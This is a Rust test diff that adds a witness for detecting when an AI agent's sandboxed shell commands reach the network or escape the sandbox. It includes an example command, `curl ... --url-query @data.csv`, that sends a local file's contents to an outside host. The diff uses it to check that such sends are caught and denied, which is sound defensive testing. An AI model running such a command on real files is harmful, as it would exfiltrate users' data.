@@ -6,6 +6,11 @@
 //! bytes gone from the world, or its permissions changed), and a harmless command may
 //! not ask.
 //!
+//! What no snapshot of files sees is witnessed (`law1_witness`): programs that send,
+//! signal or drive the system are stand-ins that report every way they got out — the
+//! network (harm when it carried bytes of a file that existed, or standard input), a
+//! daemon's socket, or anything outside the sandbox.
+//!
 //! Each case gets its own world in a temp dir; nothing runs outside the sandbox, since
 //! only an approval lets a command out and every answer is a denial.
 
@@ -21,6 +26,7 @@ use artoo::{Config, SystemClock};
 use serde_json::json;
 
 use super::law1::{Corpus, World, cases, load};
+use super::law1_witness::{Way, Witness, harm};
 
 /// A file's bytes and permissions, or a folder.
 type Entry = Option<(Vec<u8>, u32)>;
@@ -84,6 +90,11 @@ struct Ran {
     asked: usize,
     /// Files that existed before whose bytes are gone, or whose permissions changed.
     changed: Vec<PathBuf>,
+    /// What a stand-in did beyond local files that it must not.
+    escaped: Vec<String>,
+    /// Every way a stand-in got out, harm or not.
+    ways: Vec<Way>,
+    heard: Vec<super::law1_witness::Heard>,
 }
 
 async fn run(w: &World, command: &str) -> Ran {
@@ -102,11 +113,21 @@ async fn run(w: &World, command: &str) -> Ran {
         Arc::clone(&world.config),
         broker,
     );
+    let witness = Witness::start().await;
+    let toolbox = Toolbox::with_tools(vec![Arc::new(Shell::with_env(witness.env()))]);
     let before = world.snapshot();
-    let r = Toolbox::standard()
+    let r = toolbox
         .call(&ctx, &ToolName::Shell.into(), json!({ "command": command }))
         .await;
     let after = world.snapshot();
+    let local: Vec<String> = before
+        .values()
+        .flatten()
+        .map(|(bytes, _)| String::from_utf8_lossy(bytes).trim().to_string())
+        .filter(|text| !text.is_empty())
+        .collect();
+    let heard = witness.heard().await;
+    let escaped = heard.iter().filter_map(|h| harm(h, &local)).collect();
     // Lost: a file whose bytes are nowhere any more (a move or a kept backup keeps them),
     // or whose permissions changed where it is.
     let kept: std::collections::HashSet<&Vec<u8>> =
@@ -124,6 +145,9 @@ async fn run(w: &World, command: &str) -> Ran {
     Ran {
         asked: responder.requests().len(),
         changed,
+        escaped,
+        ways: heard.iter().map(|h| h.way).collect(),
+        heard,
     }
 }
 
@@ -155,24 +179,30 @@ async fn no_case_of_the_corpus_changes_what_exists_and_harmless_ones_do_not_ask(
             .collect::<Vec<_>>()
     };
     let mut harmed = Vec::new();
+    let mut reached_network = 0;
     for (case, ran) in measure(shell_cases(destructive)).await {
+        reached_network += ran.ways.iter().filter(|w| **w == Way::Network).count();
         if !ran.changed.is_empty() {
             harmed.push(format!("{case:?} changed {:?}", ran.changed));
         }
+        harmed.extend(ran.escaped.iter().map(|e| format!("{case:?}: {e}")));
     }
     let harmless = measure(shell_cases(read_only)).await;
     let total = harmless.len();
     let mut asked = Vec::new();
     for (case, ran) in harmless {
+        reached_network += ran.ways.iter().filter(|w| **w == Way::Network).count();
         if ran.asked > 0 {
             asked.push(case.to_string());
         }
         if !ran.changed.is_empty() {
             harmed.push(format!("{case:?} changed {:?}", ran.changed));
         }
+        harmed.extend(ran.escaped.iter().map(|e| format!("{case:?}: {e}")));
     }
     eprintln!(
-        "by effect: {} changed something that existed; {} of {total} harmless cases asked: {asked:#?}",
+        "by effect: {} harmed (lost a file, or got out); stand-ins reached the network \
+         {reached_network} times; {} of {total} harmless cases asked: {asked:#?}",
         harmed.len(),
         asked.len()
     );
@@ -183,4 +213,43 @@ async fn no_case_of_the_corpus_changes_what_exists_and_harmless_ones_do_not_ask(
         asked.len(),
         asked.join("\n")
     );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_witness_hears_every_way_out_and_judges_what_was_sent() {
+    // Outside any sandbox, a stand-in gets out every way, carrying the file it names.
+    let witness = Witness::start().await;
+    let dir = tempfile::tempdir().expect("temp dir");
+    std::fs::write(dir.path().join("data.csv"), "id,word\n1,swordfish\n").expect("write");
+    let status = tokio::process::Command::new(witness.bin().join("curl"))
+        .args(["-s", "https://example.com/", "--url-query", "@data.csv"])
+        .current_dir(dir.path())
+        .stdin(std::process::Stdio::null())
+        .status()
+        .await
+        .expect("stand-in runs");
+    assert!(status.success());
+    let heard = witness.heard().await;
+    let ways: std::collections::BTreeSet<Way> = heard.iter().map(|h| h.way).collect();
+    assert_eq!(ways, [Way::Network, Way::Daemon, Way::Outside].into());
+    let local = ["id,word\n1,swordfish".to_string()];
+    assert!(heard.iter().all(|h| harm(h, &local).is_some()), "{heard:?}");
+    // On the network, only what carried local bytes is harm.
+    let elsewhere = ["nothing of this was sent".to_string()];
+    let judged: Vec<(Way, bool)> = heard
+        .iter()
+        .map(|h| (h.way, harm(h, &elsewhere).is_some()))
+        .collect();
+    assert!(judged.contains(&(Way::Network, false)), "{judged:?}");
+    assert!(judged.contains(&(Way::Daemon, true)), "{judged:?}");
+
+    // Inside the sandbox the stand-ins are found: a proven network read reaches the
+    // network and nothing else, carrying nothing local; the same read carrying a file
+    // is a send, asked about and, denied, never heard.
+    let w: World = load("world.toml");
+    let read = run(&w, "curl -s https://example.com/").await;
+    assert_eq!(read.ways, vec![Way::Network], "{:?}", read.heard);
+    assert!(read.escaped.is_empty() && read.asked == 0);
+    let send = run(&w, "curl -s https://example.com/ --url-query @data.csv").await;
+    assert!(send.ways.is_empty() && send.asked == 1, "{:?}", send.ways);
 }
